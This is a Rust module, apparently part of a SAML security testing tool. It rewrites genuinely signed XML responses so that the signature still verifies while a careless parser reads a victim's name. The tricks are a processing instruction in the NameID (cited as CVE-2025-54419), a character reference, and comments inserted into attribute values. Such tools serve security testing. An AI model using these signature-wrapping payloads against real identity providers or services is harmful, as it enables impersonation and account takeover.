//! Tricks on text that was genuinely signed: the bytes change, and what is signed does not, or only for those who canonicalise carelessly.

use super::Attacker;
use super::document::{Document, missing};
use super::edit::end_of_prefix;
use crate::WireError;
use crate::names::ASSERTION;
use crate::tree::{Edits, Id};
use quick_xml::escape::unescape;

/// The end of the NameID stands in a processing instruction. Who canonicalises its text like any other finds the signed
/// name, and who reads the NameID finds the victim's (CVE-2025-54419).
pub(super) fn instruction(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<String, WireError> {
    let (name_id, rest, mut edits) = split(document, attacker)?;
    let end = document.tree.content(name_id).map_or(rest, |content| content.end);
    let hidden = unescape(&document.xml[rest..end]).map_err(|_| missing("text"))?;
    edits.replace(rest..end, format!("<?x {hidden}?>"));
    Ok(edits.apply(document.xml))
}

/// What follows the victim's name begins with a character reference, where some parsers hand a text over in pieces.
pub(super) fn reference(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<String, WireError> {
    let (_, rest, mut edits) = split(document, attacker)?;
    let first = document.xml[rest..].chars().next().filter(|it| *it != '&');
    let first = first.ok_or_else(|| missing("character after the victim's name"))?;
    edits.replace(rest..rest + first.len_utf8(), format!("&#x{:X};", u32::from(first)));
    Ok(edits.apply(document.xml))
}

/// The NameID, and where the text goes on that the victim's name begins.
fn split(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<(Id, usize, Edits), WireError> {
    let (name_id, _) = document.name_id()?;
    let rest = end_of_prefix(document, name_id, attacker.victim)
        .ok_or_else(|| missing("NameID that begins with the victim's name and goes on"))?;
    Ok((name_id, rest, Edits::default()))
}

/// A comment after each of the victim's values in an AttributeValue that begins with it; the NameID is as it was.
pub(super) fn comment_in_values(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
) -> Result<String, WireError> {
    let victims = || attacker.values.iter().map(|(_, theirs)| *theirs);
    let values = document.tree.below(document.response, ASSERTION, "AttributeValue");
    let ends = values
        .into_iter()
        .filter_map(|value| victims().find_map(|victim| end_of_prefix(document, value, victim)));
    let mut edits = Edits::default();
    ends.for_each(|end| edits.insert(end, "<!---->"));
    match edits.apply(document.xml) {
        same if same == document.xml => {
            Err(missing("AttributeValue that begins with the victim's and goes on"))
        }
        changed => Ok(changed),
    }
}
